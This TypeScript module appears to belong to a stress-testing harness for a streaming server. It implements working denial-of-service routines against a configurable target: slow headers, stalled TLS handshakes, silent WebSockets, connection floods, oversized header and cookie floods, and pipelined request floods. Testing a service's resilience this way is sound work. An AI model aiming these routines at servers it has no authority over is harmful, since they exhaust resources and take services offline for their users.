/** Attacks by connections and requests, before anybody has said who it is. */
import { Intruder } from './intruder';
import { openSecure, openTcp, receives, type RawConnection } from './raw-connection';
import { pause, Tally, type Attack, type Target } from './target';

/** Connections that are held at once. */
const MANY = 400;

async function untilEnd({ durationMs }: Target, act: () => Promise<void> | void): Promise<void> {
  const end = performance.now() + durationMs;
  while (performance.now() < end) await act();
}

function fate(connections: readonly RawConnection[], tally: Tally): void {
  for (const { socket, received } of connections) {
    const status = /^HTTP\/1\.1 (?<code>\d+)/u.exec(received.toString('latin1'))?.groups?.['code'];
    tally.add(
      status === undefined ? (socket.destroyed ? 'cut off' : 'held open') : `HTTP ${status}`,
    );
    socket.destroy();
  }
}

/** Hundreds of requests whose headers come a byte at a time. */
export const slowHeaders: Attack = async (target) => {
  const opened = await Promise.all(Array.from({ length: MANY }, () => openSecure(target)));
  for (const { socket } of opened) socket.write(`GET /stream HTTP/1.1\r\nHost: ${target.host}\r\n`);
  await untilEnd(target, async () => {
    for (const { socket } of opened) if (!socket.destroyed) socket.write('X');
    await pause(200);
  });
  const tally = new Tally();
  fate(opened, tally);
  return String(tally);
};

/** Hundreds of TLS handshakes that never go on. */
export const slowHandshakes: Attack = async (target) => {
  const opened = Array.from({ length: MANY }, () => openTcp(target));
  await pause(100);
  // The first bytes of a ClientHello that promises more.
  for (const { socket } of opened) socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]));
  await pause(target.durationMs);
  const tally = new Tally();
  fate(opened, tally);
  return String(tally);
};

/** WebSockets that never say hello. */
export const silentSockets: Attack = async (target) => {
  const tally = new Tally();
  const silent = Array.from(
    { length: MANY },
    () => new Intruder(target, { clientType: 'streamer', isSilent: true }),
  );
  await pause(target.durationMs);
  for (const intruder of silent) {
    tally.add(intruder.end ?? 'held open');
    intruder.leave();
  }
  return String(tally);
};

/** Connections opened and dropped as fast as can be. */
export const floodConnections: Attack = async (target) => {
  let opened = 0;
  let cutOff = 0;
  await untilEnd(target, async () => {
    const batch = Array.from({ length: 50 }, () => openTcp(target));
    opened += batch.length;
    await pause(20);
    cutOff += batch.filter(({ socket }) => socket.destroyed).length;
    for (const { socket } of batch) socket.destroy();
  });
  return `${opened} connections; ${cutOff} × cut off at once`;
};

/** Headers that are too many and too large. */
export const floodHeaders: Attack = async (target) => {
  const tally = new Tally();
  const many = Array.from({ length: 3_000 }, (_, index) => `X-${index}: x\r\n`).join('');
  const large = `X-Large: ${'x'.repeat(200_000)}\r\n`;
  const cookies = `Cookie: ${'a=b; '.repeat(20_000)}\r\n`;
  await untilEnd(target, async () => {
    for (const headers of [many, large, cookies]) {
      const connection = await openSecure(target);
      connection.socket.write(`GET / HTTP/1.1\r\nHost: ${target.host}\r\n${headers}\r\n`);
      await receives(connection, (received) => received.includes('\r\n\r\n'));
      fate([connection], tally);
    }
  });
  return String(tally);
};

/** Requests without end, dozens on each connection at once. */
export const floodRequests: Attack = async (target) => {
  const tally = new Tally();
  const requests = `GET /stream HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n\r\n`.repeat(40);
  await untilEnd(target, async () => {
    const batch = await Promise.all(Array.from({ length: 8 }, () => openSecure(target)));
    for (const { socket } of batch) if (!socket.destroyed) socket.write(requests);
    await pause(50);
    for (const { socket, received } of batch) {
      for (const [, code = ''] of received.toString('latin1').matchAll(/HTTP\/1\.1 (\d+)/gu)) {
        tally.add(`HTTP ${code}`);
      }
      if (received.length === 0) tally.add('cut off');
      socket.destroy();
    }
  });
  return String(tally);
};
